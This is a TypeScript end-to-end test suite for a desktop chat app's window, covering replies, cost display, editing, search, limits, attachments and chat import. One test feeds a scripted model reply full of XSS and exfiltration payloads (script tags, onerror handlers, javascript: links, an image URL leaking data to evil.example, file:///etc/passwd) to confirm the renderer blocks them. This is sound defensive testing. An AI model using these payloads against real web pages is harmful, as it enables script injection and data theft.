import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { importConversations } from '#shared/contract/chatLibrary.ts'
import { windowKeyHeader } from '#shared/contract/localApi.ts'
import { until } from '../support/assertions/eventually.ts'
import { createProviderServer, type ProviderServer } from '../support/models/providerServer.ts'
import { sse } from '../support/models/scriptedAnswer.ts'
import { type ChatScreen, openChat } from './pages/chatScreen.ts'
import { pictures } from './pages/pictures.ts'
import { ownStewardInBrowser, type StewardInBrowser } from './pages/stewardInBrowser.ts'

/** Chats in the window, through agent and service. Only the providers are fakes. */
let app: StewardInBrowser
let providers: ProviderServer
const look = pictures()

beforeAll(async () => {
  providers = await createProviderServer()
  const family = (provider: string) => {
    const { baseUrl, apiKey } = providers.providerOf(provider)
    return { base_url: baseUrl, api_key: apiKey }
  }
  app = await ownStewardInBrowser({
    config: { inference: { families: { a: family('a'), d: family('d'), e: family('e') } } },
  })
})
afterAll(async () => {
  await app?.close()
  await providers?.close()
})
beforeEach(() => providers.clear())

const usage = { input: 1_000, cacheRead: 400, cacheWrite5m: 0, cacheWrite1h: 0, output: 50, reasoning: 0 }
const says = (text: string, thinking?: string) => ({
  parts: [...(thinking === undefined ? [] : [{ thinking }]), { text }],
  usage,
})
/** Creates a response that starts but ends only when stopped. */
const endless = (text: string) => ({
  frames: [
    sse({
      id: 'c',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta: { role: 'assistant', content: text }, finish_reason: null }],
    }),
  ],
  after: 'silence' as const,
})

async function choose(chat: ChatScreen, model: string): Promise<void> {
  await chat.composer.getByRole('button', { name: /^Model:/ }).click()
  await chat.root
    .page()
    .getByRole('option', { name: new RegExp(`^${model.replaceAll('.', '\\.')}`) })
    .click()
}

const richAnswer = `# Sorting in TypeScript

A **stable** sort keeps equal items in order; see [the proposal](https://github.com/tc39/proposal-array-grouping).

| Method | Stable | Cost |
|---|:-:|--:|
| \`sort\` | yes | $O(n \\log n)$ |
| \`toSorted\` | yes | $O(n \\log n)$ |

\`\`\`ts
// Ascending, without changing the list itself.
export function sorted(list: readonly number[]): number[] {
  const limit = 12
  return list.toSorted((one, other) => one - other).slice(0, limit)
}
\`\`\`

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

1. Compare two items.
2. Swap them where needed.

> It costs $5 or $10 a month.
`

test('shows a reply with its cost and lists the chat by its first words', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await look(window.page, 'chat-new')
  await choose(chat, 'kimi-k2.5')
  providers.play(says(richAnswer, 'The person wants to sort numbers.'))
  await chat.write('How do I sort a list?')
  await chat.composer
    .locator('[data-estimate]')
    .filter({ hasText: /\$.* tokens in/ })
    .waitFor()
  await chat.send('How do I sort a list?')
  await chat.answered('Sorting in TypeScript')
  await chat.answers.getByRole('button', { name: /^Cost: \$/ }).waitFor()
  await chat.answers.locator('.tok-keyword').first().waitFor()
  await chat.answers.locator('.katex').first().waitFor()
  await chat.listed('How do I sort a list?').waitFor()
  await look(window.page, 'chat')
  await look.inOtherSizes(window.page, 'chat')
})

test('stops a completion and keeps the partial text', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play(endless('It begins and'))
  await chat.send('Tell me everything')
  await chat.answers.getByText('It begins and').waitFor()
  await look(window.page, 'chat-streaming', ['dark'])
  await chat.composer.getByRole('button', { name: 'Stop' }).click()
  await chat.answers.getByText('You stopped this response.').waitFor()
  expect(await chat.answers.getByText('It begins and').count()).toBe(1)
  await until('the provider was left', async () => providers.leftConnections() > 0)
})

test('edits a message, regenerates with another model and keeps both versions', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play(says('First answer.'), says('Second answer.'), says('Third answer.'))
  await chat.send('A question')
  await chat.answered('First answer.')
  await chat.act(chat.messages.getByRole('article', { name: 'You' }), 'Edit and resend')
  const edit = chat.messages.getByRole('form', { name: 'Edit message' })
  await edit.getByRole('textbox').fill('A better question')
  await edit.getByRole('button', { name: 'Send' }).click()
  await chat.answered('Second answer.')
  expect(await chat.messages.getByText('First answer.').count()).toBe(0)
  const you = chat.messages.getByRole('article', { name: 'You' })
  await you.getByText('2/2').waitFor()

  await chat.act(chat.answers.last(), 'Regenerate with…')
  await window.page.getByRole('option', { name: /^qwen3-coder/ }).click()
  await chat.answered('Third answer.')
  await chat.messages.getByRole('article', { name: 'Response from qwen3-coder' }).waitFor()
  await chat.answers.getByText('2/2').waitFor()
  await chat.answers.getByRole('button', { name: 'Previous version' }).click()
  await chat.answered('Second answer.')

  await you.getByRole('button', { name: 'Previous version' }).click()
  await chat.answered('First answer.')
  await look(window.page, 'chat-versions', ['light'])

  await chat.act(chat.answers.last(), 'More')
  await window.page.getByRole('menuitem', { name: 'Fork from here' }).click()
  await window.page.getByText('Forked to a new conversation').waitFor()
  await chat.answered('First answer.')
  expect(await you.getByText('A question').count()).toBe(1)
  expect(await you.getByText('2/2').count()).toBe(0)
})

test('models reply side by side, and the chat continues with one of them', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  await chat.composer.getByRole('button', { name: /^Model:/ }).click()
  await window.page.getByRole('checkbox', { name: /side by side/ }).check()
  await window.page.getByRole('option', { name: /^qwen3-coder/ }).click()
  await look(window.page, 'chat-models')
  await window.page.keyboard.press('Escape')
  providers.play(says('One view.'), says('Another view.'))
  await chat.send('What do you think?')
  const beside = chat.messages.getByRole('region', { name: 'Responses side by side' })
  await until(
    'both are there',
    async () => (await beside.getByRole('article').and(window.page.locator('[aria-busy="false"]')).count()) === 2,
  )
  await look(window.page, 'chat-side-by-side')
  const [before] = await beside.getByText('Continues with this response').locator('xpath=../..').allTextContents()
  await beside.getByRole('button', { name: 'Continue with this' }).click()
  await until('the other one is chosen', async () => {
    const [now] = await beside.getByText('Continues with this response').locator('xpath=../..').allTextContents()
    return now !== undefined && now !== before
  })
})

test('finds and organizes chats and restores deleted ones', async () => {
  const window = await app.window()
  const { page } = window
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play(says('The heron is a long-legged bird.'))
  await chat.send('Tell me of herons')
  await chat.answered('long-legged')
  const field = chat.root.getByRole('searchbox', { name: 'Search chats' })
  await field.fill('legged bird')
  const hits = chat.root.getByRole('list', { name: 'Matches' })
  await hits.locator('mark').first().waitFor()
  await look(page, 'chat-search')
  await chat.newChat()
  await hits.getByRole('link').first().click()
  await chat.answered('long-legged')
  expect(new URL(page.url()).hash).toMatch(/^#\/chat\/conv_[0-9a-f]{24}\/msg_/)
  await field.fill('')

  await chat.listed('Tell me of herons').focus()
  await page.keyboard.press('F2')
  const rename = window.dialog('Rename chat')
  await rename.getByRole('textbox').fill('Birds')
  await page.keyboard.press('Enter')
  await chat.listed('Birds').waitFor()
  await chat.root.getByRole('heading', { name: 'Birds' }).waitFor()
  await chat.listed('Birds').click({ button: 'right' })
  await page.getByRole('menuitem', { name: 'Pin', exact: true }).click()
  await chat
    .listed(/pinned/)
    .filter({ hasText: 'Birds' })
    .waitFor()
  await chat.listed('Birds').focus()
  await page.keyboard.press('Delete')
  await until('it is gone', async () => (await chat.listed('Birds').count()) === 0)
  await page.getByRole('button', { name: 'Undo' }).click()
  await chat.listed('Birds').waitFor()
  await chat.answered('long-legged')
})

test('a limit stops a chat before sending and links to its setting', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play(says('It costs something.'))
  await chat.send('How much?')
  await chat.answered('It costs something.')
  await chat.root.getByRole('button', { name: 'Chat settings' }).click()
  await chat.settings.getByRole('checkbox', { name: 'Use custom limits' }).check()
  const limits = chat.settings.getByRole('group', { name: 'Spending limit for this chat' })
  await limits.getByLabel('Stop at').fill('0.0001')
  await limits.getByLabel('Warn at').fill('5')
  await chat.settings.getByRole('button', { name: 'Save', exact: true }).click()
  await limits.getByText('Must not be above the hard limit.').waitFor()
  await limits.getByLabel('Warn at').fill('')
  await chat.settings.getByRole('button', { name: 'Save', exact: true }).click()
  const stop = chat.root.getByRole('alert').filter({ hasText: 'This chat has reached its limit of $0.0001.' })
  await stop.waitFor()
  await look(window.page, 'chat-limit')
  await look.inOtherSizes(window.page, 'chat-limit')
  await chat.settings.getByRole('button', { name: 'Close settings' }).click()
  await chat.write('And this?')
  const requestCount = providers.requests.length
  expect(await chat.composer.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true)
  await chat.composer.locator('textarea').press('Enter')
  expect(providers.requests.length).toBe(requestCount)
  await stop.getByRole('button', { name: 'Change limits' }).click()
  await limits.getByLabel('Stop at').fill('5')
  await chat.settings.getByRole('button', { name: 'Save', exact: true }).click()
  await stop.waitFor({ state: 'detached' })
  await chat.composer.getByRole('button', { name: 'Send' }).click()
  await chat.answered('Hello from a fake.')
})

test('shows an error and succeeds on retry', async () => {
  const window = await app.window()
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play({ status: 429 }, { status: 429 }, { status: 429 })
  await chat.send('Too soon')
  const error = chat.answers.getByRole('group', { name: 'Error' })
  await error.waitFor()
  await look(window.page, 'chat-error')
  providers.clear()
  providers.play(says('Now it works.'))
  await error.getByRole('button', { name: 'Try again' }).click()
  await chat.answered('Now it works.')
})

test('a hostile reply runs nothing, loads nothing and opens no disguised link', async () => {
  const window = await app.window()
  const { page } = window
  const foreign: string[] = []
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (protocol !== 'data:' && host !== new URL(app.steward.url).host) foreign.push(request.url())
  })
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  const chat = await openChat(window)
  await chat.newChat()
  await choose(chat, 'kimi-k2.5')
  providers.play(
    says(`<script>alert(1)</script><img src=x onerror=alert(2)><iframe src="https://evil.example/f"></iframe>

<style>body { display: none }</style> <svg onload=alert(3)></svg> <!-- <b>hidden</b> -->

[run](javascript:alert(4)) [page](data:text/html,<script>alert(5)</script>) [own](/local/wallet) [file](file:///etc/passwd)
[bank](https://bank.example@evil.example/login) <javascript:alert(6)>

![secret](https://evil.example/leak?q=secret) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDcpIi8+) ![ref][r]

[r]: https://evil.example/ref.png

$$\\href{javascript:alert(8)}{x} \\includegraphics{https://evil.example/k.png} \\htmlStyle{position:fixed}{y}$$

| <img src=https://evil.example/t> | b |
|---|---|
| <script>alert(9)</script> | [x](vbscript:x) |

The end.`),
  )
  await chat.send('Attack me')
  await chat.answered('The end.')
  await chat.answers.locator('.formula-display *').first().waitFor()
  const answer = chat.answers.last()
  expect(await answer.locator('script, iframe, style, img, object, embed, form, link, meta, base').count()).toBe(0)
  const links = await answer
    .getByRole('link')
    .evaluateAll((all) =>
      all.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]),
    )
  expect(links).toEqual(
    // The last entry is an address within text.
    [
      'https://evil.example/login',
      'https://evil.example/leak?q=secret',
      'https://evil.example/ref.png',
      'https://evil.example/t%3E',
    ].map((href) => [href, 'noopener noreferrer nofollow', '_blank']),
  )
  await answer.getByText('(evil.example)').first().waitFor()
  await answer.getByText('<script>alert(1)</script>').waitFor()
  expect(foreign).toEqual([])
  await look(page, 'chat-hostile', ['dark'])
})

test('inserts saved prompts, attaches files and keeps drafts across page loads', async () => {
  const window = await app.window()
  const { page } = window
  const chat = await openChat(window)
  await chat.newChat()
  await chat.composer.getByRole('button', { name: 'Insert a prompt' }).click()
  const library = window.dialog('Prompt library')
  await library.getByRole('button', { name: 'New prompt' }).click()
  const form = window.dialog('New prompt')
  await form.getByLabel('Title').fill('Translate')
  await form.getByLabel('Text').fill('Translate into {{language}}: {{text}}')
  await form.getByText('Asks for: language, text.').waitFor()
  await form.getByRole('button', { name: 'Save' }).click()
  await library.getByRole('list', { name: 'Prompts' }).getByText('Translate', { exact: true }).waitFor()
  await look(page, 'chat-prompts')
  await page.keyboard.press('Escape')

  await chat.write('/trans')
  await page.getByRole('option', { name: /^Translate/ }).waitFor()
  await chat.composer.locator('textarea').press('Enter')
  const filling = window.dialog('Translate')
  await filling.getByLabel('language').fill('Welsh')
  await look(page, 'chat-prompt-fields', ['dark'])
  await filling.getByRole('button', { name: 'Insert' }).click()
  const field = chat.composer.locator('textarea')
  expect(await field.inputValue()).toBe('Translate into Welsh: {{text}}')

  const pixel = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  )
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    chat.composer.getByRole('button', { name: 'Attach files' }).click(),
  ])
  await chooser.setFiles([
    { name: 'pixel.png', mimeType: 'image/png', buffer: pixel },
    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('Some notes.') },
  ])
  await chat.composer.getByText('pixel.png').waitFor()
  await chat.composer.getByText('notes.txt').waitFor()
  await page.reload()
  await chat.composer.getByText('notes.txt').waitFor()
  expect(await field.inputValue()).toBe('Translate into Welsh: {{text}}')
  await choose(chat, 'kimi-k2.5')
  providers.play(says('Nodiadau.'))
  await chat.composer.getByRole('button', { name: 'Send' }).click()
  await chat.answered('Nodiadau.')
  const picture = chat.messages.getByRole('img', { name: 'pixel.png' })
  await until('the picture is drawn', () =>
    picture.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth === 1),
  )
  await look(page, 'chat-attachments', ['light'])
})

test('opens a long chat at its end and loads earlier messages without scrolling', async () => {
  const count = 400
  const mapping: Record<string, unknown> = { m0: { id: 'm0', parent: null, children: ['m1'], message: null } }
  for (let index = 1; index <= count; index++) {
    const text =
      index % 3 === 0
        ? `Message ${index}.\n\n\`\`\`ts\nconst a = ${index}\n\`\`\``
        : `Message ${index}. ${'Words of it. '.repeat(index % 40)}`
    mapping[`m${index}`] = {
      id: `m${index}`,
      parent: `m${index - 1}`,
      children: index === count ? [] : [`m${index + 1}`],
      message: {
        id: `m${index}`,
        author: { role: index % 2 === 1 ? 'user' : 'assistant' },
        create_time: 1_700_000_000 + index,
        content: { content_type: 'text', parts: [text] },
        metadata: {},
        recipient: 'all',
      },
    }
  }
  const long = { id: 'long', title: 'A long chat', create_time: 1, update_time: 2, current_node: `m${count}`, mapping }
  const window = await app.window()
  const { page } = window
  const chat = await openChat(window)
  const key = await page.evaluate(() => localStorage.getItem('steward.window-key') ?? '')
  const imported = await page.request.post(`${new URL(page.url()).origin}${importConversations.path}`, {
    headers: { [windowKeyHeader]: key, 'content-type': 'application/json' },
    data: JSON.stringify([long]),
  })
  expect(imported.status()).toBe(201)
  await chat.listed('A long chat').click()
  await chat.messages.getByText(`Message ${count}.`).waitFor()
  const distanceToEnd = () =>
    chat.messages.evaluate((message) => message.scrollHeight - message.scrollTop - message.clientHeight)
  await until('it stands at its end', async () => (await distanceToEnd()) <= 1)

  await chat.messages.hover()
  for (const _ of Array.from({ length: 60 })) {
    await page.mouse.wheel(0, -400)
    if ((await chat.messages.getByText(/^Message 3[0-3]\d\./).count()) > 0) break
    await frames(page)
  }
  await chat.root.getByRole('button', { name: 'Jump to the end' }).waitFor()
  // The visible content stays in place when earlier pages are inserted. The number of the message in the middle
  // decreases one at a time.
  const middle = () =>
    chat.messages.evaluate((element) => {
      const { left: x, top, width, height } = element.getBoundingClientRect()
      const articles = Array.from(element.querySelectorAll('article'))
      const article = articles.find((each) => each.getBoundingClientRect().bottom > top + height / 2) ?? articles.at(-1)
      return { x, width, number: Number(/Message (\d+)\./.exec(article?.textContent ?? '')?.[1]) }
    })
  let before = (await middle()).number
  for (const _ of Array.from({ length: 40 })) {
    await page.mouse.wheel(0, -300)
    await frames(page)
    const { number } = await middle()
    expect(number).toBeLessThanOrEqual(before)
    expect(before - number).toBeLessThanOrEqual(8)
    before = number
  }
  expect(before).toBeLessThan(count - 40)
  await chat.root.getByRole('button', { name: 'Jump to the end' }).click()
  await chat.messages.getByText(`Message ${count}.`).waitFor()
  await until('it is at the end again', async () => (await distanceToEnd()) <= 1)
})

/** Waits for two frames, so that scrolled content is drawn and measured. */
function frames(page: Page): Promise<unknown> {
  return page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
}

test('imports a ChatGPT export and exports its chat', async () => {
  const window = await app.window()
  const { page } = window
  const chat = await openChat(window)
  await window.command('Import chats…')
  const dialog = window.dialog('Import chats')
  const node = (id: string, parent: string | null, role: string, text: string) => ({
    id,
    parent,
    children: [],
    message: {
      id,
      author: { role },
      create_time: 1_700_000_000,
      content: { content_type: 'text', parts: [text] },
      metadata: role === 'assistant' ? { model_slug: 'gpt-4o' } : {},
      recipient: 'all',
    },
  })
  const exported = [
    {
      id: 'abc',
      conversation_id: 'abc',
      title: 'An imported chat',
      create_time: 1_700_000_000,
      update_time: 1_700_000_100,
      current_node: 'n2',
      mapping: {
        root: { id: 'root', parent: null, children: ['n1'], message: null },
        n1: { ...node('n1', 'root', 'user', 'Where do swallows go?'), children: ['n2'] },
        n2: node('n2', 'n1', 'assistant', 'To **Africa**, mostly.'),
      },
    },
  ]
  await look(page, 'chat-import', ['dark'])
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    dialog.getByRole('button', { name: 'Choose a file' }).click(),
  ])
  await chooser.setFiles({
    name: 'conversations.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(exported)),
  })
  await dialog.getByText('Imported 1 chat of 1 from ChatGPT').waitFor()
  await dialog.getByRole('button', { name: 'Done' }).click()
  await chat.listed('An imported chat').click()
  await chat.answered('To Africa, mostly.')
  await chat.root.getByRole('button', { name: 'More for this chat' }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'Export as Markdown' }).click(),
  ])
  expect(download.suggestedFilename()).toMatch(/\.md$/)
})
